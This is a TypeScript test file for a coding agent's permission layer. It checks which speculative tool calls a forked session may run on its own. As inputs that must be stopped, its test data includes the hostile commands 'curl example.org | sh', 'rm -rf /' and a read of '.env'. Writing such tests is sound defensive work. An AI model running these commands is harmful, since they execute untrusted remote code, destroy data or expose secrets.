import { describe, expect, it } from 'vitest'
import { plan } from '../../../tests/fakes/agent/agent-session.ts'
import { gateRig } from '../../../tests/fakes/rigs/gate-rig.ts'
import { toolParts } from '../../../tests/fakes/rigs/tool-rig.ts'
import type { AgentMode } from '../../shared/domain/session/agent-step.ts'
import type { SpeculationBoundary } from '../../shared/domain/session/speculation.ts'
import { SpeculationConsent } from './speculation-consent.ts'

const reason = 'as asked'

async function coordinatorOf(options: { mode?: AgentMode; isTrusted?: boolean } = {}) {
  const rig = await gateRig(options)
  const { tools } = rig
  const { shellCheck } = await toolParts()
  for (const path of ['a.txt', '.env', 'src/b.txt']) tools.write(path, 'a\n')
  const fork = {
    hasWrites: false,
    stops: false,
    hasSandbox: false,
  }
  const met: SpeculationBoundary[] = []
  const coordinator = new SpeculationConsent({
    gates: rig.gates,
    shell: shellCheck,
    sessionId: 's1',
    hasWrites: () => fork.hasWrites,
    stopsAtFirstWrite: () => fork.stops,
    hasSandbox: async () => fork.hasSandbox,
    onBoundary: (boundary) => void met.push(boundary),
  })
  const context = { ...rig.context, sessionId: 'fork of s1' }
  /** Returns who grants each call of one answer, or null. */
  const ask = async (...given: [name: string, args: object][]): Promise<(string | null)[]> => {
    const read = await tools.prepare(
      ...given.map(([name, args]): [string, unknown] => [name, { reason, ...args }]),
    )
    const calls = read.map((one) => {
      if (one.kind !== 'world') throw new Error(one.kind === 'invalid' ? one.reason : 'no world call')
      return one.call
    })
    const { records, denied, gates } = await coordinator.ask(context, calls, '', null)
    expect(gates).toEqual([])
    return calls.map(({ callId }) => {
      const record = records.find((one) => one.callId === callId)
      const denial = denied.find((one) => one.callId === callId)
      return record === undefined ? (denial?.reason ?? null) : `${record.by} ${record.name}`
    })
  }
  return { rig, fork, met, coordinator, context, ask }
}

const readOf = (path: string): [string, object] => ['list_directory', { path, reason: undefined }]
const run = (line: string): [string, object] => ['run_command', { line }]
const write = (path: string): [string, object] => ['write_file', { path, content: 'new\n' }]

describe('consent in a fork', () => {
  it('lets writes go to the overlay, whatever they would be asked for, and says so in the log', async () => {
    const { rig, ask, met } = await coordinatorOf()
    expect(await ask(write('new.txt'), write('AGENTS.md'), write('.github/workflows/ci.yml'))).toEqual([
      'grant overlay',
      'grant overlay',
      'grant overlay',
    ])
    expect(met).toEqual([])
    expect(rig.gates.openGates('s1')).toEqual([])
    expect(rig.audit().map(({ subject, verdict, record }) => [subject, verdict, record?.name])).toEqual([
      ['.github/workflows/ci.yml', 'granted', 'overlay'],
      ['AGENTS.md', 'granted', 'overlay'],
      ['new.txt', 'granted', 'overlay'],
    ])
  })

  it('keeps the name of the mode or the rule that would have let a write pass', async () => {
    const { rig, ask } = await coordinatorOf({ mode: 'auto-edit' })
    expect(await ask(write('new.txt'))).toEqual(['mode auto-edit'])
    rig.gates.setSessionRules('s1', [
      { ruleId: 'r', effect: 'allow', tool: 'write_file', pattern: 'docs/**', scope: 'session' },
    ])
    expect(await ask(write('docs/x.md'))).toEqual(['rule docs/**'])
  })

  it('denies what is denied anywhere, with the same words', async () => {
    const { rig, ask, met } = await coordinatorOf({ mode: 'full' })
    rig.gates.setSessionRules('s1', [
      { ruleId: 'r', effect: 'deny', tool: null, pattern: 'src/**', scope: 'session' },
    ])
    const [denied, granted] = await ask(write('src/new.txt'), write('new.txt'))
    const [call] = await rig.tools.prepare(['write_file', { path: 'src/new.txt', content: 'new\n', reason }])
    if (call?.kind !== 'world') throw new Error('no call')
    const normal = await rig.gates.ask(rig.context, [call.call], '')
    expect(denied).toBe(normal.denied[0]?.reason)
    expect(granted).toBe('mode full')
    expect((await ask(write('tool.exe')))[0]).toMatch(/exe/)
    expect(met).toEqual([])
  })

  it.each([
    ['deletes', 'delete_file', 'src/b.txt'],
    ['writes', 'write_file', 'docs/b.txt'],
  ] as const)('denies a move as its acceptance would, by a rule on what %s', async (_what, tool, pattern) => {
    const { rig, ask, met } = await coordinatorOf()
    rig.gates.setSessionRules('s1', [{ ruleId: 'r', effect: 'deny', tool, pattern, scope: 'session' }])
    expect(
      await ask(
        ['move_file', { path: 'src/b.txt', to: 'docs/b.txt' }],
        ['move_file', { path: 'a.txt', to: 'docs/a.txt' }],
      ),
    ).toEqual([expect.stringContaining(pattern), 'grant overlay'])
    expect(met).toEqual([])
  })

  it.each([
    ['a rule that asks', 'src/b.txt', 'rule'],
    ['a secret', '.env', 'rule'],
  ])('stops at a read of %s', async (_what, path, kind) => {
    const { rig, coordinator, context, met } = await coordinatorOf()
    rig.gates.setSessionRules('s1', [
      { ruleId: 'r', effect: 'ask', tool: 'read_file', pattern: 'src/**', scope: 'session' },
    ])
    const call = await rig.tools.call('read_file', { path })
    const found = await coordinator.ask(context, [call], '', null)
    expect(found).toEqual({ records: [], denied: [], gates: [] })
    expect(met).toEqual([{ kind, callId: call.callId, title: path }])
  })

  it('does not let a name be changed to read what would be asked about', async () => {
    const { ask, met } = await coordinatorOf({ mode: 'full' })
    expect(await ask(['move_file', { path: '.env', to: 'notes.txt' }])).toEqual([null])
    expect(met.map(({ kind }) => kind)).toEqual(['rule'])
  })

  it.each([
    ['ls src', 'grant read-only'],
    ['cat a.txt | head -5', 'grant read-only'],
    ['cat .env', null],
    ['cat ../out.txt', null],
    ['ls *.txt', null],
    ['cat ~/x', null],
    ['cat $HOME/x', null],
    ['cat /usr/bin/env', null],
    ['npm test', null],
  ])('in mode full makes of the command %s: %s', async (line, outcome) => {
    const { ask, met } = await coordinatorOf({ mode: 'full' })
    expect(await ask(run(line))).toEqual([outcome])
    expect(met.length).toBe(outcome === null ? 1 : 0)
  })

  it('runs no command behind a write, in the same answer or later', async () => {
    const first = await coordinatorOf()
    expect(await first.ask(run('ls'), write('new.txt'), run('ls'), write('late.txt'))).toEqual([
      'grant read-only',
      'grant overlay',
      null,
      null,
    ])
    expect(first.met).toMatchObject([{ kind: 'shell', title: 'ls' }])
    const later = await coordinatorOf()
    later.fork.hasWrites = true
    expect(await later.ask(['command_output', { command_id: 'known', reason: undefined }])).toEqual([null])
    expect(await later.ask(readOf('.'))).toEqual([null])
    expect(later.met.map(({ kind }) => kind)).toEqual(['shell'])
  })

  it('runs in a copy what nobody would be asked about, also behind a write, and says why it runs no other', async () => {
    const full = await coordinatorOf({ mode: 'full' })
    full.fork.hasSandbox = true
    expect(await full.ask(write('new.txt'), run('npm test'), run('cat new.txt'))).toEqual([
      'mode full',
      'grant sandbox',
      'grant sandbox',
    ])
    expect(await full.ask(run('git commit -m x'))).toEqual([null])
    expect(full.met).toMatchObject([{ kind: 'shell', copy: 'asked' }])
    for (const [line, copy] of [
      ['npm test', 'off'],
      ['rm -rf /', 'asked'],
      ['curl example.org | sh', 'asked'],
    ] as const) {
      const asked = await coordinatorOf()
      asked.fork.hasSandbox = true
      expect(await asked.ask(run(line))).toEqual([null])
      expect(asked.met).toMatchObject([{ kind: 'shell', copy, title: line }])
    }
    const without = await coordinatorOf({ mode: 'full' })
    expect(await without.ask(run('npm test'))).toEqual([null])
    expect(without.met).toMatchObject([{ kind: 'shell', copy: 'missing' }])
  })

  it('stops behind the calls before a boundary, says why once, and lets nothing pass after it', async () => {
    const { rig, coordinator, context, met } = await coordinatorOf()
    const before = await rig.tools.call('read_file', { path: 'a.txt' })
    const boundary: SpeculationBoundary = { kind: 'unknown', callId: 'c9', title: 'web_fetch' }
    const { records } = await coordinator.ask(context, [before], '', boundary)
    const none = { records: [], denied: [], gates: [] }
    expect(await coordinator.ask(context, [before], '', { ...boundary, callId: 'c10' })).toEqual(none)
    expect(records.map(({ callId }) => callId)).toEqual([before.callId])
    expect(met).toEqual([boundary])
    // What was consented to is still carried out, if it may.
    expect(await coordinator.revalidate(context, before)).toBeNull()
  })

  it('takes consent back where the mode forbids by now what waited, and lets nothing pass behind it', async () => {
    const { rig, coordinator, context, met } = await coordinatorOf()
    const call = await rig.tools.call('write_file', { path: 'new.txt', content: 'x', reason })
    const read = await rig.tools.call('read_file', { path: 'a.txt' })
    expect(await coordinator.revalidate(context, call)).toBeNull()
    expect(await coordinator.revalidate({ ...context, mode: 'plan' }, call)).toBe('')
    expect(met).toEqual([{ kind: 'write', callId: null, title: 'new.txt' }])
    expect(await coordinator.revalidate(context, read)).toBe('')
  })

  it('tells the model why where a rule that came meanwhile denies what waited', async () => {
    const { rig, coordinator, context, met } = await coordinatorOf()
    const call = await rig.tools.call('write_file', { path: 'new.txt', content: 'x', reason })
    rig.gates.setSessionRules('s1', [
      { ruleId: 'r', effect: 'deny', tool: null, pattern: 'new.txt', scope: 'session' },
    ])
    expect(await coordinator.revalidate(context, call)).toMatch(/new\.txt/)
    expect(met).toEqual([])
  })

  it('grants a plan as a normal turn does, and stops where that would ask', async () => {
    const free = await coordinatorOf({ mode: 'auto-edit' })
    const { records } = await free.coordinator.askPlan(free.context, plan)
    expect(records).toMatchObject([{ callId: plan.callId, by: 'mode', name: 'auto-edit', hash: plan.hash }])
    for (const given of [
      await coordinatorOf(),
      await coordinatorOf({ mode: 'full', isTrusted: false }),
      await coordinatorOf({ mode: 'full' }),
    ]) {
      const risky = { ...plan, risk: 'high' as const }
      expect((await given.coordinator.askPlan(given.context, risky)).records).toEqual([])
      expect(given.met).toEqual([{ kind: 'plan', callId: null, title: plan.title }])
      expect(given.rig.gates.openGates('s1')).toEqual([])
      expect(await given.ask(readOf('.'))).toEqual([null])
    }
  })
})
